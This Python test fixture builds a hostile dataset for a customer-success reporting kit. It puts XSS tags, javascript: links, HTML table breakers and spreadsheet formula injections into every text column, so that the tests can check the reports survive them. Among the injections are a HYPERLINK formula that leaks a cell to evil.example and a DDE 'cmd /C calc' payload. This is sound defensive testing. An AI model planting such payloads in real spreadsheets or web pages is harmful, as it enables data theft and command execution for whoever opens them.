"""A hostile dataset: the bundled sample generator's tables with attacks in every text field.

``hostile_tables()`` starts from ``csm_kit.sample.generator.generate_sample`` (never a hand-edited copy)
and injects :data:`HOSTILE_TEXTS` — script tags, event-handler attributes, table breakers,
``javascript:`` Markdown links, mathtext dollars, spreadsheet formulas, bidi and zero-width
characters, NUL bytes — into every text column; ids get leading zeros; one survey comment is
1 MB. It also builds the edge cases the reports must survive:

* a segment with one customer (:data:`LONE_SEGMENT`), who has churned and has no survey
  responses — reporting on that segment alone covers "zero survey responses" and
  "all customers churned";
* the as-of month's NPS answers are exactly five, all promoters; one comment is 1 MB, one
  carries an e-mail address and a phone number;
* a month (:data:`QUIET_MONTH`) with no surveys, tickets, orders, trials or referrals.

``write_hostile(folder)`` writes the tables as CSV files (NUL bytes included).
"""

from __future__ import annotations

from pathlib import Path

import pandas as pd

from csm_kit.sample.generator import generate_sample

CANARY = '<script>alert("canary")</script>'

#: One of these is put in front of every text value, in turn.
HOSTILE_TEXTS = (
    CANARY,
    '<img src=x onerror=alert("canary")>',
    "</td></tr></table><h1>x",
    "[click me](javascript:alert('canary'))",
    "Deal $5M to $10M",
    "Ba$$in",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "@SUM(1+1)",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd",
    "\tTab first",
    "Acme\u202eCorp",         # right-to-left override
    "Zero\u200bwidth\ufeff",  # zero-width space and BOM
    "NUL\x00byte",
)

#: Text columns of each table that get hostile values.
TEXT_COLUMNS = {
    "customers": ["name", "segment", "plan", "region", "csm", "industry"],
    "subscriptions": ["plan"],
    "surveys": ["comment", "respondent", "csm", "agent"],
    "tickets": ["channel", "agent", "priority"],
    "events": ["label", "segment"],
}
#: Columns whose values name a group (same value -> same hostile value across tables).
GROUP_COLUMNS = {"segment", "plan", "region", "csm", "industry", "agent", "channel", "priority"}

LONE_SEGMENT = '<script>alert("canary")</script> Solo $1'
LONE_ID = "000999"
QUIET_MONTH = pd.Timestamp("2026-05-01")
AS_OF = "2026-10-31"
BIG_COMMENT_CHARS = 1_000_000
BIG_COMMENT = "=1+1 " + "x" * BIG_COMMENT_CHARS
EMAIL, PHONE = "ana.lopez@example.com", "+1 415 555 0123"
CONTACT_COMMENT = f"Great support, mail {EMAIL} or call {PHONE}"


def hostile_tables(*, customers: int = 150, months: int = 14, seed: int = 11) -> dict[str, pd.DataFrame]:
    """The sample's tables with hostile text, leading-zero ids and the edge cases built in."""
    tables = generate_sample(customers=customers, months=months, seed=seed, end=AS_OF)
    tables = _zero_padded_ids(tables)
    for name, columns in TEXT_COLUMNS.items():
        for column in columns:
            tables[name][column] = _poisoned(tables[name][column], group=column in GROUP_COLUMNS)
    tables = _five_promoters_in_the_last_month(tables)
    tables = _quiet_month(tables)
    return _lone_churned_customer(tables)


def write_hostile(folder: Path, **options) -> Path:
    """Write :func:`hostile_tables` as ``<table>.csv`` files into ``folder``; return it."""
    folder.mkdir(parents=True, exist_ok=True)
    for name, frame in hostile_tables(**options).items():
        frame.to_csv(folder / f"{name}.csv", index=False, date_format="%Y-%m-%dT%H:%M:%S")
    return folder


def hostile_values() -> list[str]:
    """Every hostile string, as the kit shows it after cleaning (for scans)."""
    return list(HOSTILE_TEXTS)


def _poisoned(values: pd.Series, *, group: bool) -> pd.Series:
    present = values.notna()
    if group:  # one hostile prefix per distinct value, so groups stay groups
        distinct = sorted(values.dropna().unique())
        prefix = {v: HOSTILE_TEXTS[i % len(HOSTILE_TEXTS)] for i, v in enumerate(distinct)}
        out = values.map(prefix).astype(object) + " " + values.astype(object)
    else:
        cycle = pd.Series([HOSTILE_TEXTS[i % len(HOSTILE_TEXTS)] for i in range(len(values))],
                          index=values.index)
        out = cycle + " " + values.astype(object).fillna("")
    return out.where(present | ~group, None).astype("str")


def _zero_padded_ids(tables: dict[str, pd.DataFrame]) -> dict[str, pd.DataFrame]:
    """C000123 -> 000123 everywhere a customer id appears (must stay a string)."""
    for frame in tables.values():
        for column in ("customer_id", "referrer_customer_id", "referred_customer_id"):
            if column in frame.columns:
                frame[column] = frame[column].str.replace("C", "", regex=False)
    return tables


def _five_promoters_in_the_last_month(tables):
    surveys = tables["surveys"]
    last = pd.Timestamp(AS_OF).to_period("M").to_timestamp()
    nps_now = (surveys["survey"] == "nps") & (surveys["date"] >= last)
    kept = surveys.loc[~nps_now]
    five = surveys.loc[surveys["survey"] == "nps"].tail(5).copy()
    five["date"] = pd.Timestamp(AS_OF)  # the newest answers, so the comments table shows them
    five["score"] = [9.0, 10.0, 10.0, 9.0, 10.0]
    five["response_id"] = [f"PROMO{i}" for i in range(5)]
    five["comment"] = [BIG_COMMENT, CONTACT_COMMENT, *five["comment"].iloc[2:]]
    tables["surveys"] = pd.concat([kept, five], ignore_index=True)
    return tables


def _quiet_month(tables):
    end = QUIET_MONTH + pd.offsets.MonthBegin(1)
    for name, column in [("surveys", "date"), ("tickets", "opened_at"),
                         ("transactions", "date"), ("trials", "started_at"),
                         ("referrals", "date")]:
        frame = tables[name]
        inside = (frame[column] >= QUIET_MONTH) & (frame[column] < end)
        tables[name] = frame.loc[~inside].reset_index(drop=True)
    tickets = tables["tickets"]  # no ticket closes in the quiet month either
    closing = (tickets["closed_at"] >= QUIET_MONTH) & (tickets["closed_at"] < end)
    tickets.loc[closing, "closed_at"] = end + pd.Timedelta(hours=1)
    return tables


def _lone_churned_customer(tables):
    customers = tables["customers"]
    lone = customers.iloc[[0]].copy()
    lone["customer_id"] = LONE_ID
    lone["segment"] = LONE_SEGMENT
    lone["signup_date"] = pd.Timestamp("2025-12-01")
    tables["customers"] = pd.concat([customers, lone], ignore_index=True)
    subscription = tables["subscriptions"].iloc[[0]].copy()
    subscription["subscription_id"] = "S0LONE"
    subscription["customer_id"] = LONE_ID
    subscription["start_date"] = pd.Timestamp("2025-12-01")
    subscription["end_date"] = pd.Timestamp("2026-04-01")
    tables["subscriptions"] = pd.concat([tables["subscriptions"], subscription], ignore_index=True)
    return tables


def shared_reports(tmp_path_factory, runs: dict[str, list[str]]) -> dict:
    """Build the hostile data and run ``csm-kit report`` once per name in ``runs`` (CLI
    arguments after ``report --data <hostile> --out <folder>``), once per test session even
    with pytest-xdist workers (a file lock guards a shared folder).

    Returns ``{"data": Path, name: {"exit_code", "output", "folder"}}``.
    """
    import fcntl
    import json
    import os

    from typer.testing import CliRunner

    from csm_kit.cli import app

    root = tmp_path_factory.getbasetemp()
    if os.environ.get("PYTEST_XDIST_WORKER"):
        root = root.parent
    base = root / "hostile"
    base.mkdir(exist_ok=True)
    with open(base / "lock", "w") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)
        data = base / "data"
        if not (data / "events.csv").exists():
            write_hostile(data)
        results = {"data": data}
        for name, args in runs.items():
            record = base / f"{name}.json"
            if not record.exists():
                out = base / name
                result = CliRunner().invoke(
                    app, ["report", "--data", str(data), "--out", str(out), *args])
                folder = sorted(p for p in out.glob("20*") if p.is_dir()) if out.exists() else []
                record.write_text(json.dumps({
                    "exit_code": result.exit_code, "output": result.output,
                    "folder": str(folder[-1]) if folder else None}))
            results[name] = json.loads(record.read_text())
    return results


#: The report runs shared by the hostile, privacy and browser tests.
RUNS = {
    "full": ["--jobs", "2"],
    "lone_segment": ["--jobs", "2", "--segment", LONE_SEGMENT],
}
